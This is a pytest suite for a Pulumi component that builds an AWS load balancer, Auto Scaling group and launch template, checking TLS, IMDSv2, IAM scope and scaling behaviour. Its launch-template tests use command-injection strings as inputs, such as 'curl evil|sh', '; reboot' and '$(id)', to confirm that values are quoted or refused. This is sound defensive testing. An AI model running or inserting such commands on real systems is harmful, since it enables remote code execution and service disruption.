"""The Compute component (ALB + Auto Scaling group), built inside each test under mocks."""

from __future__ import annotations

import base64
import json
import shlex
import subprocess
from dataclasses import replace

import pulumi
import pytest

from components.compute import (
    AGENT_CPU_METRIC,
    AGENT_NAMESPACE,
    AL2023_AMI_PARAMETER,
    FAST_SCALE_MARGIN,
    SPIKE_PERIOD_S,
    TLS_POLICY,
    Compute,
    ComputeArgs,
    Route,
    render_app_user_data,
    validation_names,
)
from config import parse_stack_config, seed
from config.cloudflare import IPV4_RANGES
from config.loader import REQUIRED_SECRETS
from config.secrets import UNKNOWN_SECRET
from planner.capacity import Ec2Group, analyse_ec2, simulate_ec2
from planner.mocks import digest
from tests.conftest import of_type

ASG = "aws:autoscaling/group:Group"
INGRESS = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"
POLICY = "aws:autoscaling/policy:Policy"


def prod_config(**compute):
    secrets = set(REQUIRED_SECRETS["primary"])
    values = {"aws:region": seed.PRIMARY_REGION, "sofacover:environment": "prod",
              "sofacover:role": "primary", "sofacover:phase": "1",
              "sofacover:compute": json.dumps(compute), **{k: UNKNOWN_SECRET for k in secrets}}
    return parse_stack_config("prod", values, secrets)


def args(**changes) -> ComputeArgs:
    cfg = prod_config()
    base = ComputeArgs.from_config(
        cfg.compute, vpc_id="vpc-1", vpc_cidr="10.10.0.0/16",
        public_subnet_ids=["subnet-p1", "subnet-p2", "subnet-p3"],
        private_subnet_ids=["subnet-a", "subnet-b", "subnet-c"], deletion_protection=True)
    return replace(base, **changes)


def compute(**changes):
    """The program building Compute over `args(**changes)` and exporting its ALB's name. The
    args are made here, so the `build` fixture's key is their value: a change that restates
    a default (`warm_pool=True`, `dns_validation="external"`) shares the default's build."""
    built = args(**changes)

    def fn() -> None:
        pulumi.export("dns", Compute("web", built).alb_dns_name)
    return fn


K8S = dict(platform="kubernetes", user_data="#node bootstrap", requests_per_target=None,
           warm_pool=False,
           routes=(Route("cart", "/api/cart*", 30082), Route("storefront", "/*", 30080)))


# --- the load balancer -------------------------------------------------------------------

def test_https_listener_uses_the_modern_tls_policy_and_http_redirects(build):
    res = build(compute()).resources
    listeners = {r.inputs["port"]: r for r in of_type(res, "aws:lb/listener:Listener")}
    https, http = listeners[443].inputs, listeners[80].inputs
    assert https["protocol"] == "HTTPS" and https["sslPolicy"] == TLS_POLICY
    redirect = http["defaultActions"][0]
    assert redirect["type"] == "redirect" and redirect["redirect"]["protocol"] == "HTTPS"


def test_alb_drops_invalid_headers_logs_access_and_is_protected_in_prod(build):
    res = build(compute()).resources
    (alb,) = of_type(res, "aws:lb/loadBalancer:LoadBalancer")
    assert alb.inputs["dropInvalidHeaderFields"] is True
    assert alb.inputs["enableDeletionProtection"] is True
    assert alb.inputs["accessLogs"]["enabled"] is True
    (bucket_policy,) = of_type(res, "aws:s3/bucketPolicy:BucketPolicy")
    assert bucket_policy.urn in alb.options["depends_on"]


def test_dev_alb_can_be_deleted(build):
    (alb,) = of_type(build(compute(deletion_protection=False)).resources,
                     "aws:lb/loadBalancer:LoadBalancer")
    assert alb.inputs["enableDeletionProtection"] is False


def test_access_log_bucket_is_encrypted_private_and_expires(build):
    res = build(compute(access_log_days=365)).resources
    (sse,) = of_type(res, "aws:s3/bucketServerSideEncryptionConfiguration:"
                          "BucketServerSideEncryptionConfiguration")
    assert sse.inputs["rules"][0]["applyServerSideEncryptionByDefault"]["sseAlgorithm"] == \
        "AES256"
    (block,) = of_type(res, "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock")
    assert all(block.inputs[k] for k in ("blockPublicAcls", "blockPublicPolicy",
                                         "ignorePublicAcls", "restrictPublicBuckets"))
    (life,) = of_type(res, "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration")
    assert life.inputs["rules"][0]["expiration"]["days"] == 365


def test_edge_fronted_alb_admits_only_cloudflare_on_443(build):
    res = build(compute(origin_access="cloudflare")).resources
    alb_rules = [r for r in of_type(res, INGRESS) if "-alb-in-" in r.name]
    assert sorted(r.inputs["cidrIpv4"] for r in alb_rules) == sorted(IPV4_RANGES)
    assert {r.inputs["fromPort"] for r in alb_rules} == {443}


def test_public_alb_admits_the_internet_on_80_and_443(build):
    res = build(compute(origin_access="public")).resources
    alb_rules = [r for r in of_type(res, INGRESS) if "-alb-in-" in r.name]
    assert {(r.inputs["fromPort"], r.inputs["cidrIpv4"]) for r in alb_rules} == {
        (443, "0.0.0.0/0"), (80, "0.0.0.0/0")}


def test_instances_admit_only_the_alb_on_the_app_port(build):
    res = build(compute()).resources
    (rule,) = [r for r in of_type(res, INGRESS) if "-instance-in-" in r.name]
    alb_sg = next(r for r in res if r.name == "web-alb-sg")
    assert rule.inputs["referencedSecurityGroupId"] == alb_sg.id
    assert rule.inputs["fromPort"] == rule.inputs["toPort"] == args().app_port


def test_target_group_has_a_real_health_check_and_no_stickiness(build):
    (tg,) = of_type(build(compute()).resources, "aws:lb/targetGroup:TargetGroup")
    hc = tg.inputs["healthCheck"]
    assert hc["path"] == args().health_check_path and hc["matcher"] == "200"
    assert hc["healthyThreshold"] >= 2 and hc["interval"] <= 30
    assert tg.inputs["deregistrationDelay"] <= 60
    assert tg.inputs["stickiness"]["enabled"] is False


def test_a_requested_certificate_is_validated_before_the_listener_uses_it(build):
    res = build(compute()).resources
    (validation,) = of_type(res, "aws:acm/certificateValidation:CertificateValidation")
    (https,) = [r for r in of_type(res, "aws:lb/listener:Listener") if r.inputs["port"] == 443]
    assert https.inputs["certificateArn"] == validation.id


DNS_RECORD = "cloudflare:index/dnsRecord:DnsRecord"
VALIDATION = "aws:acm/certificateValidation:CertificateValidation"


def test_cloudflare_validation_creates_one_dns_only_record_per_distinct_name(build):
    res = build(compute(dns_validation="cloudflare")).resources
    (cert,) = of_type(res, "aws:acm/certificate:Certificate")
    assert cert.inputs["subjectAlternativeNames"] == ["*.sofacoverpro.com"]
    # The wildcard shares its base's record: one record, not two.
    (record,) = of_type(res, DNS_RECORD)
    option = next(o for o in cert.outputs["domainValidationOptions"]
                  if o["domainName"] == "sofacoverpro.com")
    assert record.inputs["name"] == option["resourceRecordName"].rstrip(".")
    assert record.inputs["content"] == option["resourceRecordValue"].rstrip(".")
    assert (record.inputs["type"], record.inputs["proxied"], record.inputs["ttl"]) == \
        ("CNAME", False, 60)
    (validation,) = of_type(res, VALIDATION)
    assert record.urn in validation.options["depends_on"]


def test_cloudflare_validation_writes_into_the_zone_holding_the_domain(build):
    res = build(compute(dns_validation="cloudflare", domain_name="dev.sofacoverpro.com",
                        dns_zone="sofacoverpro.com")).resources
    (record,) = of_type(res, DNS_RECORD)
    assert record.inputs["zoneId"] == digest("zone", "sofacoverpro.com")[:32]  # the mocks' id
    assert record.inputs["name"].endswith(".dev.sofacoverpro.com")


def test_external_validation_waits_for_records_another_stack_made(build):
    res = build(compute(dns_validation="external")).resources
    assert not of_type(res, DNS_RECORD)
    (validation,) = of_type(res, VALIDATION)
    assert not [u for u in validation.options["depends_on"] if DNS_RECORD in u]


def test_cloudflare_validation_plans_in_preview_with_unknown_records(build):
    res = build(compute(dns_validation="cloudflare"), preview=True).resources
    assert len(of_type(res, DNS_RECORD)) == 1


def test_validation_names_fold_a_wildcard_into_its_base():
    assert validation_names("sofacoverpro.com") == ["sofacoverpro.com"]


@pytest.mark.parametrize("changes,message", [
    (dict(dns_validation="manual"), "certificateArn is not set but dnsValidation is manual"),
    (dict(certificate_arn="arn:aws:acm:us-east-1:123456789012:certificate/x"),
     "dnsValidation is external but certificateArn is set"),
    (dict(dns_validation="cloudflare", dns_zone="example.org"),
     "dnsZone is example.org but domainName sofacoverpro.com is not in it"),
])
def test_certificate_settings_that_do_not_add_up_are_refused(build, changes, message):
    with pytest.raises(ValueError, match=message):
        build(compute(**changes))


def test_a_given_certificate_is_used_as_is(build):
    arn = "arn:aws:acm:us-east-1:123456789012:certificate/given"
    res = build(compute(certificate_arn=arn, dns_validation="manual")).resources
    assert not of_type(res, "aws:acm/certificate:Certificate")
    assert not of_type(res, VALIDATION) and not of_type(res, DNS_RECORD)
    (https,) = [r for r in of_type(res, "aws:lb/listener:Listener") if r.inputs["port"] == 443]
    assert https.inputs["certificateArn"] == arn


# --- the launch template --------------------------------------------------------------------

def test_launch_template_requires_imdsv2_encrypts_and_has_no_ssh_key(build):
    res = build(compute()).resources
    (lt,) = of_type(res, "aws:ec2/launchTemplate:LaunchTemplate")
    assert lt.inputs["metadataOptions"]["httpTokens"] == "required"
    ebs = lt.inputs["blockDeviceMappings"][0]["ebs"]
    assert ebs["encrypted"] == "true" and ebs["volumeType"] == "gp3"
    assert "keyName" not in lt.inputs
    assert lt.inputs["imageId"].startswith("ami-")  # resolved by lookup
    (profile,) = of_type(res, "aws:iam/instanceProfile:InstanceProfile")
    attached = {r.inputs["policyArn"].rsplit("/", 1)[1] for r in
                of_type(res, "aws:iam/rolePolicyAttachment:RolePolicyAttachment")}
    # SSM for access without SSH; the CloudWatch agent for the 10 s spike metric
    assert attached == {"AmazonSSMManagedInstanceCore", "CloudWatchAgentServerPolicy"}


def test_user_data_runs_the_configured_image_read_only(build):
    (lt,) = of_type(build(compute(app_image="repo/app:1.2.3", app_port=9000)).resources,
                    "aws:ec2/launchTemplate:LaunchTemplate")
    script = base64.b64decode(lt.inputs["userData"]).decode()
    assert "repo/app:1.2.3" in script and "-p 9000:9000" in script and "--read-only" in script


HOSTILE = "nginx; curl evil|sh"


def _bash_syntax_ok(script: str) -> bool:
    return subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0


@pytest.mark.parametrize("sidecar", [None, "/sofacover/prod/pgbouncer"])
def test_user_data_quotes_every_value_and_is_valid_bash(sidecar):
    script = render_app_user_data(HOSTILE, 8080, "us-east-1; reboot",
                                  sidecar and f"{sidecar}$(id)")
    assert _bash_syntax_ok(script)
    for line in script.splitlines():
        if HOSTILE in line:  # the value is one word to the shell, never a command
            assert HOSTILE in shlex.split(line) and shlex.quote(HOSTILE) in line
    assert "'us-east-1; reboot'" in script or sidecar is None
    assert sidecar is None or shlex.quote(f"{sidecar}$(id)/pgbouncer.ini") in script


def test_user_data_of_valid_config_is_valid_bash_and_runs_the_image_as_one_word(build):
    image = "123456789012.dkr.ecr.us-east-1.amazonaws.com/app@sha256:" + "0a" * 32
    script = render_app_user_data(image, 9000, "us-east-1", "/sofacover/prod/pgbouncer")
    assert _bash_syntax_ok(script)
    run = next(line for line in script.splitlines() if "--name app" in line)
    assert shlex.split(run)[-1] == image


@pytest.mark.parametrize("changes,arg", [
    (dict(app_image=HOSTILE), "app_image"),
    (dict(health_check_path="/healthz && reboot"), "health_check_path"),
    (dict(sidecar_parameter_path="/sofacover/prod;id"), "sidecar_parameter_path"),
    (dict(domain_name="example.com;id"), "domain_name"),
])
def test_the_component_refuses_shell_metacharacters_without_the_config(build, changes, arg):
    with pytest.raises(ValueError, match=f"ComputeArgs: {arg} is "):
        build(compute(**changes))


def test_ami_is_looked_up_from_the_ssm_parameter_it_is_given(build):
    def image(**changes) -> str:
        (lt,) = of_type(build(compute(**changes)).resources,
                        "aws:ec2/launchTemplate:LaunchTemplate")
        return lt.inputs["imageId"]

    assert args().ami_parameter == AL2023_AMI_PARAMETER
    assert image() != image(ami_parameter="/aws/service/eks/optimized-ami/1.33/amazon-linux-2023/"
                                   "x86_64/standard/recommended/image_id")


# --- the Auto Scaling group -------------------------------------------------------------------

def test_group_uses_phase_sizes_elb_health_and_pinned_template_version(build):
    res = build(compute()).resources
    (group,) = of_type(res, ASG)
    assert (group.inputs["minSize"], group.inputs["maxSize"]) == (seed.ASG_MIN, seed.ASG_MAX)
    assert group.inputs["healthCheckType"] == "ELB"
    assert group.inputs["healthCheckGracePeriod"] > 0
    assert group.inputs["defaultInstanceWarmup"] > 0
    assert group.inputs["launchTemplate"]["version"] == "1"  # a number, never $Latest
    assert group.inputs["vpcZoneIdentifiers"] == ["subnet-a", "subnet-b", "subnet-c"]


def test_deploys_never_reset_the_desired_capacity(build):
    (group,) = of_type(build(compute()).resources, ASG)
    assert group.options["ignore_changes"] == ["desiredCapacity"]


def test_template_changes_roll_the_fleet_with_instance_refresh(build):
    (group,) = of_type(build(compute()).resources, ASG)
    refresh = group.inputs["instanceRefresh"]
    assert refresh["strategy"] == "Rolling"
    assert refresh["preferences"]["minHealthyPercentage"] >= 90


def test_scales_on_cpu_and_requests_per_target_and_fast_on_spikes(build):
    res = build(compute()).resources
    policies = {r.name: r.inputs for r in of_type(res, POLICY)}
    cpu = policies["web-cpu-tracking"]["targetTrackingConfiguration"]
    assert cpu["targetValue"] == args().cpu_target_percent
    req = policies["web-requests-tracking"]["targetTrackingConfiguration"]
    assert req["predefinedMetricSpecification"]["predefinedMetricType"] == \
        "ALBRequestCountPerTarget"
    assert req["predefinedMetricSpecification"]["resourceLabel"].startswith("app/")
    (alarm,) = of_type(res, "aws:cloudwatch/metricAlarm:MetricAlarm")
    # ec2: the CloudWatch agent's 10 s CPU of the group, one datapoint, a step to maxSize
    assert (alarm.inputs["namespace"], alarm.inputs["metricName"]) == (AGENT_NAMESPACE,
                                                                       AGENT_CPU_METRIC)
    assert alarm.inputs["period"] == SPIKE_PERIOD_S and alarm.inputs["evaluationPeriods"] == 1
    assert alarm.inputs["threshold"] == args().cpu_target_percent + FAST_SCALE_MARGIN
    (step,) = policies["web-fast-scale-out"]["stepAdjustments"]
    group = args()
    assert group.min_size * (1 + step["scalingAdjustment"] / 100) >= group.max_size
    script = base64.b64decode(of_type(res, "aws:ec2/launchTemplate:LaunchTemplate")[0]
                              .inputs["userData"]).decode()
    agent = json.loads(script.split("<<'SOFACOVER_AGENT'\n")[1].split("\nSOFACOVER_AGENT")[0])
    assert agent["agent"]["metrics_collection_interval"] == SPIKE_PERIOD_S  # high resolution
    assert agent["metrics"]["aggregation_dimensions"] == [["AutoScalingGroupName"]]


def planned_group(res) -> Ec2Group:
    """The phase-1 group as the plan records it, for planner/capacity.py: the policies'
    targets, the fast alarm's margin and step, the warm-up, the warm pool and the target
    group's health check."""
    (group,) = of_type(res, ASG)
    policies = {r.name: r.inputs for r in of_type(res, POLICY)}
    (alarm,) = of_type(res, "aws:cloudwatch/metricAlarm:MetricAlarm")
    (tg,) = of_type(res, "aws:lb/targetGroup:TargetGroup")
    # the simulator's fast alarm: one datapoint of its period
    assert alarm.inputs["evaluationPeriods"] == 1
    cpu = policies["web-cpu-tracking"]["targetTrackingConfiguration"]["targetValue"]
    requests = policies.get("web-requests-tracking")
    (step,) = policies["web-fast-scale-out"]["stepAdjustments"]
    g, hc = group.inputs, tg.inputs["healthCheck"]
    pool = g.get("warmPool") or None
    return Ec2Group(args().instance_type, g["minSize"], g["maxSize"], g["desiredCapacity"], cpu,
                    requests["targetTrackingConfiguration"]["targetValue"] if requests else None,
                    g["defaultInstanceWarmup"], pool is not None,
                    pool["minSize"] if pool else 1, pool.get("maxGroupPreparedCapacity")
                    if pool else None, fast_margin=alarm.inputs["threshold"] - cpu,
                    fast_percent=step["scalingAdjustment"], fast_period_s=alarm.inputs["period"],
                    health_interval_s=hc["interval"], healthy_threshold=hc["healthyThreshold"])


def test_phase1_group_meets_10x_within_120s_from_the_warm_pool(build):
    # The agent's first 10 s datapoint of the spike reaches the alarm 15 s after it ends
    # (t = 25); the step takes 2 instances to maxSize 8; the warm ones start in 30 s and pass
    # two 15 s health checks: 25 + 30 + 30 = 85 s (planner/capacity.py Timing)
    result = analyse_ec2(planned_group(build(compute()).resources), load=10, kpi_s=120)
    assert result.meets(120) and result.seconds == 85


def test_phase1_group_without_its_warm_pool_misses_10x_within_120s(build):
    # cold instances: launch 30 s + bootstrap 60 s instead of a 30 s warm start -> 145 s
    result = analyse_ec2(planned_group(build(compute(warm_pool=False)).resources), load=10,
                         kpi_s=120)
    assert not result.meets(120) and result.seconds == 145
    assert result.binding[0].startswith(("no warm pool", "instance start (30 s launch"))


def test_phase1_warm_pool_shortens_the_scale_out_by_the_cold_start(build):
    cold = simulate_ec2(planned_group(build(compute(warm_pool=False)).resources), load=10)
    warm = simulate_ec2(planned_group(build(compute(warm_pool=True)).resources), load=10)
    assert cold.seconds is not None and warm.seconds is not None
    # a warm start (30 s) instead of launch (30 s) + bootstrap (60 s), planner/capacity.py
    assert cold.seconds - warm.seconds == 60


def test_spot_share_uses_a_mixed_instances_policy(build):
    res = build(compute(spot_percent=60, on_demand_base=2, warm_pool=False,
                        instance_types=("m5a.large", "m6i.large"))).resources
    (group,) = of_type(res, ASG)
    assert "launchTemplate" not in group.inputs
    mixed = group.inputs["mixedInstancesPolicy"]
    assert mixed["instancesDistribution"]["onDemandPercentageAboveBaseCapacity"] == 40
    assert mixed["instancesDistribution"]["onDemandBaseCapacity"] == 2
    types = [o["instanceType"] for o in mixed["launchTemplate"]["overrides"]]
    assert types == ["m5.large", "m5a.large", "m6i.large"]
    assert group.inputs["capacityRebalance"] is True


def test_warm_pool_is_added_when_asked(build):
    (group,) = of_type(build(compute(warm_pool=True, warm_pool_min_size=2)).resources, ASG)
    assert group.inputs["warmPool"]["poolState"] == "Stopped"
    assert group.inputs["warmPool"]["minSize"] == 2
    (plain,) = of_type(build(compute(warm_pool=False)).resources, ASG)
    assert "warmPool" not in plain.inputs


@pytest.mark.parametrize("changes,message", [
    (dict(desired_capacity=99), "desired_capacity is 99; it must lie between"),
    (dict(warm_pool=True, spot_percent=50), "warm_pool is true but spotPercent is 50"),
    (dict(warm_pool=True, instance_types=("m5a.large",)), "warm_pool is true"),
    (dict(platform="kubernetes", user_data="x", warm_pool=False), "needs at least one route"),
    (dict(platform="kubernetes", routes=(Route("a", "/a", 30001),), warm_pool=False),
     "needs user_data"),
])
def test_inconsistent_arguments_fail_before_anything_is_created(build, changes, message):
    with pytest.raises(ValueError, match=message):
        build(compute(**changes))


# --- the kubernetes platform ------------------------------------------------------------------

def test_kubernetes_routes_get_a_target_group_and_path_rule_each_catch_all_last(build):
    res = build(compute(**K8S)).resources
    groups = {r.name: r for r in of_type(res, "aws:lb/targetGroup:TargetGroup")}
    assert set(groups) == {"web-cart", "web-storefront"}  # short: 32-character AWS names
    assert groups["web-cart"].inputs["port"] == 30082
    rules = sorted(of_type(res, "aws:lb/listenerRule:ListenerRule"),
                   key=lambda r: r.inputs["priority"])
    assert [r.inputs["conditions"][0]["pathPattern"]["values"] for r in rules] == [
        ["/api/cart*"], ["/*"]]
    (group,) = of_type(res, ASG)
    assert sorted(group.inputs["targetGroupArns"]) == sorted(g.id for g in groups.values())
    (https,) = [r for r in of_type(res, "aws:lb/listener:Listener") if r.inputs["port"] == 443]
    assert https.inputs["defaultActions"][0]["type"] == "fixed-response"


def test_kubernetes_nodes_use_ec2_health_checks_so_an_app_check_never_kills_a_node(build):
    (group,) = of_type(build(compute(**K8S)).resources, ASG)
    assert group.inputs["healthCheckType"] == "EC2"
    assert group.inputs["healthCheckGracePeriod"] > 0
    (ec2,) = of_type(build(compute()).resources, ASG)
    assert ec2.inputs["healthCheckType"] == "ELB"  # on ec2 the instance is the app


def test_kubernetes_nodes_keep_pods_off_the_instance_metadata(build):
    (lt,) = of_type(build(compute(**K8S)).resources, "aws:ec2/launchTemplate:LaunchTemplate")
    assert lt.inputs["metadataOptions"]["httpPutResponseHopLimit"] == 1
    assert base64.b64decode(lt.inputs["userData"]).decode() == "#node bootstrap"


def test_children_are_parented_and_outputs_registered(build):
    run = build(compute())
    (component,) = of_type(run.resources, "sofacover:compute:Compute")
    assert all(r.parent == component.urn for r in run.resources if r is not component)
    assert run.outputs["dns"].endswith(".elb.amazonaws.com")


def test_without_a_sidecar_path_the_app_is_published_on_its_port_alone(build):
    (lt,) = of_type(build(compute()).resources, "aws:ec2/launchTemplate:LaunchTemplate")
    script = base64.b64decode(lt.inputs["userData"]).decode()
    assert "pgbouncer" not in script and f"-p {args().app_port}:{args().app_port}" in script


def test_the_pgbouncer_sidecar_reads_its_config_from_ssm_with_a_narrow_policy(build):
    path = "/sofacover/prod/pgbouncer"
    res = build(compute(sidecar_parameter_path=path)).resources
    (lt,) = of_type(res, "aws:ec2/launchTemplate:LaunchTemplate")
    script = base64.b64decode(lt.inputs["userData"]).decode()
    assert f"--name {path}/pgbouncer.ini" in script
    assert f"--with-decryption --name {path}/userlist.txt" in script
    assert "--user 65534:65534" in script  # PgBouncer refuses to run as root
    assert script.index("pgbouncer.ini >") < script.index("--name app")
    assert "-e DATABASE_HOST=127.0.0.1" in script
    (policy,) = [r for r in of_type(res, "aws:iam/rolePolicy:RolePolicy")
                 if r.name == "web-instance-sidecar-config"]
    statement = json.loads(policy.inputs["policy"])["Statement"][0]
    assert statement["Action"] == ["ssm:GetParameter"]
    assert statement["Resource"].endswith(f":parameter{path}/*")


def test_the_prod_plan_publishes_the_sidecar_config_the_instances_read(prod):
    res = prod["prod"].resources
    params = {r.inputs["name"]: r for r in of_type(res, "aws:ssm/parameter:Parameter")}
    (lt,) = of_type(res, "aws:ec2/launchTemplate:LaunchTemplate")
    script = base64.b64decode(lt.inputs["userData"]).decode()
    assert len(params) == 3  # pgbouncer.ini, userlist.txt, rds-ca.pem
    for name in params:
        assert f"--name {name}" in script
    assert {p.inputs["type"] for p in params.values()} == {"String", "SecureString"}
    secure = next(p for p in params.values() if p.inputs["type"] == "SecureString")
    assert secure.inputs["name"].endswith("/userlist.txt")
